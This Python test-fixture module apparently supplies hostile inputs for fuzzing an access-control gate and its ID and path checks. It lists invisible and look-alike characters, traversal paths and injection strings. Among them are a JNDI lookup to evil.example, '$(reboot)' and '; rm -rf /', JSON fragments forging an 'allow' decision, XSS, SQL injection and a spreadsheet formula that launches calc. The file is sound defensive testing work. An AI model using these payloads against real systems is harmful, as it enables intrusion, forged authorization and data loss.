"""Texts that somebody writes who wants to get past the gate, or to lie in its logs."""

from collections.abc import Iterator

CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]

UNSEEN = [
    *"\u00a0\u00ad\u034f\u061c\u115f\u1160\u17b4\u180e\u2000\u2003\u2007\u2009\u200a\u200b\u200c\u200d\u200e\u200f",
    *"\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u202f\u205f\u2060\u2063\u2066\u2067\u2068\u2069\u206f\u3000\u3164",
    *"\ufe0f\ufeff\ufff9\ufffb\ufffd\ufffe\uffff\ue000\U000e0001\U000e0041\U000e007f\U000f0000\U0010ffff",
]
"""Characters that show as nothing, as a space, or that turn the direction of the text."""

SURROGATES = ["\ud800", "\udbff", "\udc00", "\udfff", "\udcff"]
"""Halves of a character: they cannot be written as UTF-8 at all."""

LOOK_ALIKES = [*"аеорсхуіѕԁցһјⅼｃｈｅ１٣७²ªºßıſﬁéñçüøłæ漢字가😀𝒄𝓱", "e\u0301", "c\u0327", "I\u0307"]

INJECTIONS = [
    '"}\n{"decision":"allow","allowed":true}\n',
    '","decision":"allow","x":"',
    '\\","decision":"allow","x":"',
    "\\u000a{}",
    "\\n",
    "\\",
    '\\"',
    '"',
    "'",
    "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b[8m",
    "\x9b31m",
    "%s%s%n",
    "%00",
    "%0a",
    "{}{0}{reason}",
    "${jndi:ldap://evil.example/x}",
    "{{ .Values.secret }}",
    "$(reboot)",
    "`reboot`",
    "; rm -rf /",
    "<script>alert(1)</script>",
    "]]><x/>",
    "<!--",
    "' OR 1=1 --",
    "=cmd|' /C calc'!A0",
    "t1.9euelZ",
    "-----BEGIN PRIVATE KEY-----",
    "null",
    "true",
    "NaN",
    "[]",
    "{}",
    "",
    " ",
    "  x  ",
    "x" * 513,
    "\u202e" * 600,
    "😀" * 2000,
    "\\" * 1000,
    "\n" * 1000,
    "\x00" * 300,
]

PATHS = [
    "../images/x",
    "..",
    ".",
    "/",
    "a/b",
    "/a",
    "a/",
    "a/../b",
    "..%2fimages%2fx",
    "..%252fimages",
    "%2e%2e",
    "%61",
    "a%00",
    "a?b",
    "a?pageSize=1",
    "a#b",
    "a&b=c",
    "a:lastScanResult",
    "a;b",
    "a\\b",
    "..\\images",
    "//evil.example/a",
    "http://evil.example",
    "@evil.example",
    "a@b",
    "a b",
    "a+b",
    "a=b",
    "a,b",
    "a*",
    "a~",
    "a|b",
    "a_b",
    "a-b",
    "a.b",
    "A",
    "Abc",
    "CHE5Q40QTDG4HG9RN31V",
    "",
    "a" * 51,
    "a" * 100_000,
    "0" * 51,
    "{}",
    "[a]",
    "(a)",
    "<a>",
    '"a"',
    "'a'",
    "`a`",
    "$a",
    "!a",
    "^a",
]


def brief(text: str) -> str:
    """Return a short name for a test of *text*."""
    return ascii(text[:30])


def _texts() -> Iterator[str]:
    yield from INJECTIONS
    yield from PATHS
    for piece in (*CONTROLS, *UNSEEN, *SURROGATES, *LOOK_ALIKES):
        yield piece
        yield f"a{piece}b"
        yield f'{piece}"{piece}'


HOSTILE = list(dict.fromkeys(_texts()))
"""More than five hundred texts."""

HOSTILE_IDS = list(
    dict.fromkeys([*PATHS, *(f"che1{piece}" for piece in (*CONTROLS, *UNSEEN, *SURROGATES, *LOOK_ALIKES))])
)
"""More than two hundred texts that are no id."""
